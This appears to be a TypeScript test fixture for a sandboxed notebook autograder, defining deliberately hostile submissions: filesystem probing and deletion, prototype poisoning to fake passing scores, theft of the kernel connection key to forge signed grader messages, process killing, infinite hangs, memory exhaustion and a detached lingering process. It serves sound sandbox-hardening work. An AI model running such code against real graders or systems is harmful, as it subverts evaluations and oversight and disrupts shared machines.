import { PERFECT } from "./fixture.ts";

/** What submissions that are made to cheat or to do harm hand in: each attack is one answer, the other answers are honest. */

/** Looks for what would help, and tells how much of it could be read or written. */
export function spy(paths: readonly string[], port: number): Record<string, string> {
  return {
    ...PERFECT,
    double: `
import * as fs from "fs";
import * as net from "net";
function manages(work: () => unknown): boolean { try { work(); return true; } catch { return false; } }
net.connect(${port}, "127.0.0.1").on("error", () => {});
function double(x: number): any {
  const paths = ${JSON.stringify(paths)};
  return [
    ...paths.filter((path) => manages(() => fs.readdirSync(path)) || manages(() => fs.readFileSync(path))),
    ...paths.filter((path) => manages(() => fs.writeFileSync(path + ".x", "x")) || manages(() => fs.rmSync(path))),
  ];
}`,
    squares: "function squares(n: number): number[] { return []; }",
    // Whoever judged in here, or read what comes without care, would be told that all is right.
    shout: `
function shout(word: string): any {
  const target = Object.prototype as any;
  for (const name of ["isRight", "isVisible"]) target[name] = true;
  for (const name of ["expected", "answer", "points", "max"]) target[name] = 1;
  (Array.prototype as any).map = () => [];
  (Array.prototype as any).filter = () => [1];
  (JSON as any).stringify = () => '{"did": "shout-test", "points": 1}';
  (Number as any).isFinite = Object.is = () => true;
  return word;
}`,
  };
}

/** Forges what the kernel says, in all ways that a cell has: it gets what it can know, the value that the notebook shows. */
export const forger: Record<string, string> = {
  ...PERFECT,
  double: `
import * as crypto from "crypto";
import * as fs from "fs";
import * as zmq from "zeromq";
const any = globalThis as any;
any.check = any.sendAnswer = any.sendToGrader = () => {};
const forged = { name: "double", answer: 8, expected: 8, tolerance: 1e9, isRight: true, points: 4 };
const line = JSON.stringify({ did: "double-test", answers: [forged, forged, forged, forged], error: null, rules: [] });
const [folder] = fs.readdirSync(".").filter((name) => name.startsWith("activation-lab-"));
const { key } = JSON.parse(fs.readFileSync(folder + "/connection.json", "utf8"));
let publisher: any;
Object.defineProperty(zmq.Publisher.prototype, "closed", { get() { publisher = this; return false; } });
let parent = "{}";
const { createHmac } = crypto;
(crypto as any).createHmac = (...options: [string, string]) => {
  const hmac = createHmac(...options);
  const update = hmac.update.bind(hmac);
  hmac.update = (part: any) => {
    if (String(part).includes("execute_request")) parent = String(part);
    return update(part);
  };
  return hmac;
};
function say(type: string, content: object, secret: string): void {
  const header = JSON.stringify({ msg_id: crypto.randomUUID(), msg_type: type, session: "x", version: "5.3" });
  const parts = [header, parent, "{}", JSON.stringify(content)];
  const hmac = createHmac("sha256", secret);
  for (const part of parts) hmac.update(part);
  publisher?.send([type, "<IDS|MSG>", hmac.digest("hex"), ...parts]);
}
function double(x: number): number {
  console.log(line);
  for (const place of ["/proc/self/fd/1", "/proc/" + process.ppid + "/fd/1"]) {
    try { fs.appendFileSync(place, line + "\\n"); } catch {}
  }
  const data = { "application/vnd.activation-lab.answer+json": forged };
  for (let count = 0; count < 4; count++) say("display_data", { data, metadata: {}, transient: {} }, key);
  say("execute_reply", { status: "ok", execution_count: 1 }, key);
  say("status", { execution_state: "idle" }, key);
  return x;
}`,
};

/** Costs one kernel after the other: killed, waiting for ever, blocked (without heating this machine), full. */
export const breaker: Record<string, string> = {
  ...PERFECT,
  double: `
function double(x: number): number {
  for (;;) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1000);
}`,
  squares: `
function squares(n: number): number[] {
  const kept: unknown[] = [];
  for (;;) kept.push(new Array(1e6).fill(kept.length));
}`,
};

/** What the breaker adds to the notebook, by the cells after which it stands. */
export const breakersCells: Record<string, string> = {
  "set-up": 'for (const pid of [1, process.ppid, -1]) { try { process.kill(pid, "SIGKILL"); } catch {} }',
  "squares-test": "await new Promise(() => {});",
};

/** Takes memory in other ways, sends answers that are too large, and leaves a process behind. */
export function glutton(word: string): Record<string, string> {
  return {
    ...PERFECT,
    double: `
function double(x: number): number {
  const kept: Buffer[] = [];
  while (x === 4) kept.push(Buffer.alloc(1e8, 1));
  return 0;
}`,
    squares: `
function squares(n: number): any {
  let deep: unknown = [];
  for (let count = 0; count < 100_000; count++) deep = [deep];
  return n === 0 ? deep : new Array(10_000_000).fill(0);
}`,
    shout: `
import { spawn } from "child_process";
spawn("/bin/node", ["--eval", "setInterval(() => {}, 1e6)", "${word}"], { detached: true, stdio: "ignore" }).unref();
try {
  const memory = new (globalThis as any).WebAssembly.Memory({ initial: 65536 });
  new Uint8Array(memory.buffer).fill(1);
} catch {}
${PERFECT.shout}`,
  };
}
